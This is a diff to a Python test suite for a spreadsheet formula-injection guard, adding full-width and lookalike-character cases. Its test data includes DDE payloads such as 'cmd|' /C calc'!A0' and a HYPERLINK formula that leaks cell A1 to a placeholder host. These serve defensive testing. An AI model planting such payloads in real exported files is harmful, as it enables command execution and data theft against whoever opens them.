@@ -3,6 +3,10 @@ the spreadsheet's text mark `'`, a plain number stays a number, and the guard un
 
 from __future__ import annotations
 
+import re
+import sys
+import unicodedata
+
 import pyarrow as pa
 import pytest
 from hypothesis import given
@@ -10,6 +14,7 @@ from hypothesis import strategies as st
 
 from jalur.cells import (
     FORMULA_STARTS,
+    LOOKALIKES,
     MARK,
     guard_cell,
     guard_column,
@@ -19,7 +24,9 @@ from jalur.cells import (
 )
 
 #: Texts built to start the way formulas and guarded values start, and any text at all.
-_HEADS = st.sampled_from(["", "'", "''", *FORMULA_STARTS, "'=", "-1", "+62", "1e"])
+_HEADS = st.sampled_from(
+    ["", "'", "''", *FORMULA_STARTS, *LOOKALIKES, "'=", "'\uff1d", "-1", "+62", "1e", "\uff0d1"]
+)
 TEXTS = st.one_of(st.text(), st.builds(str.__add__, _HEADS, st.text()))
 
 PAYLOADS = [
@@ -36,6 +43,45 @@ PAYLOADS = [
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_a_formula_is_marked_as_text(payload: str) -> None:
     assert guard_cell(payload) == MARK + payload
+
+
+@pytest.mark.parametrize(
+    "payload",
+    ["\uff1dHYPERLINK(\"http://x/?\"&A1)", "\uff0b1+cmd|' /C calc'!A0", "\uff0d2+3",
+     "\uff20SUM(1+1)", "\ufe66cmd|' /C calc'!A0", "\u2212" + "1+1", "\uff0d62"],
+)  # fmt: skip
+def test_a_formula_in_a_form_the_spreadsheet_normalises_is_marked(payload: str) -> None:
+    """Excel reads a full-width `＝` (typed by a Japanese or Chinese input method) as `=`."""
+    assert guard_cell(payload) == MARK + payload and unguard_cell(MARK + payload) == payload
+
+
+def test_every_character_whose_nfkc_form_opens_a_formula_is_a_lookalike() -> None:
+    """The list is checked against this Python's Unicode: a new compatibility form fails here."""
+    found = {
+        ch for ch in map(chr, range(sys.maxunicode + 1))
+        if unicodedata.normalize("NFKC", ch)[:1] in set(FORMULA_STARTS) and ch not in FORMULA_STARTS
+    }  # fmt: skip
+    assert found <= set(LOOKALIKES), sorted(found - set(LOOKALIKES))
+
+
+@given(TEXTS)
+def test_any_text_whose_nfkc_form_opens_a_formula_is_guarded(value: str) -> None:
+    """Unless it is a plain ASCII number, which the spreadsheet reads as that number."""
+    opens = unicodedata.normalize("NFKC", value)[:1] in set(FORMULA_STARTS)
+    if opens and not _is_number(value):
+        assert guard_cell(value) == MARK + value
+    assert unguard_cell(guard_cell(value)) == value
+
+
+def _is_number(value: str) -> bool:
+    """A decimal number as a spreadsheet reads one: ASCII digits, sign, point, exponent."""
+    if re.fullmatch(r"[0-9.eE+-]+", value) is None:
+        return False
+    try:
+        float(value)
+    except ValueError:
+        return False
+    return True
 
 
 @pytest.mark.parametrize("number", ["-12.5", "+62", "-3", "+1e-3", "-.5", "7"])
